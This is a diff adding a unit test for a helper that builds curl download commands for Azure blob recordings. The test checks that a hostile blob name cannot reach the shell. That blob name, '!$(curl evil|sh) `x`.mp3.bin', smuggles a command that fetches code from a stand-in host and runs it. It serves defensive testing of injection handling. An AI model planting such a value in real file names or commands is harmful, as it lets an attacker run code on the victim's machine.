@@ -20,6 +20,13 @@ describe('curl commands', () => {
     ]);
   });
 
+  it('never lets a blob name reach the shell', () => {
+    const [, download] = curlCommands({ accountUrl: 'https://t/?sig=y', containers, exampleBlob: '!$(curl evil|sh) `x`.mp3.bin' });
+    expect(download!.command).toBe(
+      'curl --request GET "https://t.blob.core.windows.net/recordings/%21%24%28curl%20evil%7Csh%29%20%60x%60.mp3.bin?sv=1&si=p&sig=x" --output "___curl_evil_sh___x_.mp3.bin"',
+    );
+  });
+
   it('encodes blob paths segment by segment', () => {
     expect(blobUrl('http://h/c?sig=1', 'a b/c#d')).toBe('http://h/c/a%20b/c%23d?sig=1');
     expect(findWhere('gim-export', new Date('2026-01-01T00:00:00Z'))).toContain("@container='gim-export'");
